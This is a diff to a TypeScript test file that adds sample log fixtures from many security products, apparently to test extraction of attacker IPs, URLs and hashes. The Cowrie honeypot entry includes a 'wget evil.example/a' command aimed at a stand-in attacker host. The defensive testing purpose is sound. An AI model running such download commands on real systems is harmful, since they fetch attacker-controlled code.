@@ -24,6 +24,77 @@ const [E, U, I, O] = [
 ];
 
 const PRODUCTS: readonly (readonly [string, object, readonly string[]])[] = [
+  [
+    "mikrotik nat",
+    line(
+      "proto TCP (SYN), 185.244.31.158:443->10.0.0.5:1234, NAT (185.244.31.158:443->8.7.6.5:1)->10.0.0.5, len 52",
+    ),
+    [I],
+  ],
+  [
+    "asterisk security",
+    line(
+      'SecurityEvent="InvalidAccountID",LocalAddress="IPV4/UDP/8.7.6.5/5060",RemoteAddress="IPV4/UDP/185.244.31.158/5071"',
+    ),
+    [I],
+  ],
+  ["serv-u", {
+    full_log:
+      "(000002) Connected to 185.244.31.158 (local address 8.7.6.5, port 22)",
+    data: { srcip: "185.244.31.158", dstip: O },
+  }, [I]],
+  [
+    "unifi",
+    line(
+      "CEF:0|Ubiquiti|UniFi Network|9.3.45|201|x|4|src=10.0.0.5 dst=185.244.31.158 UNIFIdeviceIp=8.7.6.5",
+    ),
+    [I],
+  ],
+  ["teleport", {
+    data: {
+      event: "user.login",
+      "addr.remote": "185.244.31.158:1234",
+      "addr.local": "8.7.6.5:3080",
+    },
+  }, [I]],
+  ["cowrie", {
+    data: {
+      src_ip: "185.244.31.158",
+      url: "http://evil.example/a",
+      shasum: "ab".repeat(32),
+      input: "wget evil.example/a",
+    },
+  }, [I, U, E, "sha256 " + "ab".repeat(32)]],
+  [
+    "nginx ssl",
+    line(
+      "SSL_do_handshake() failed, client: 185.244.31.158, server: 8.7.6.5:443",
+    ),
+    [I],
+  ],
+  ["resolvers and reporters", {
+    data: {
+      resolver_ip: "9.8.7.6",
+      dnsServerIp: "9.8.7.5",
+      reporterIP: "9.8.7.4",
+    },
+  }, []],
+  ["tokens' issuers", {
+    data: { iss: "https://sts.own.com/", issuer: "https://login.own.com/" },
+  }, []],
+  [
+    "xml's schemas",
+    line('<Event xsi:schemaLocation="http://x.own.com/s.xsd"/>'),
+    [],
+  ],
+  ["vuls", {
+    rule: { groups: ["vuls"] },
+    data: { vuls: { affected_packages_info: "1.1.1.4 => 1.1.1.9" } },
+  }, []],
+  ["qualys", {
+    rule: { groups: ["qualysguard"] },
+    data: { qualysguard: { ip: O } },
+  }, []],
   ["traefik", {
     data: {
       ClientAddr: "185.244.31.158:4000",
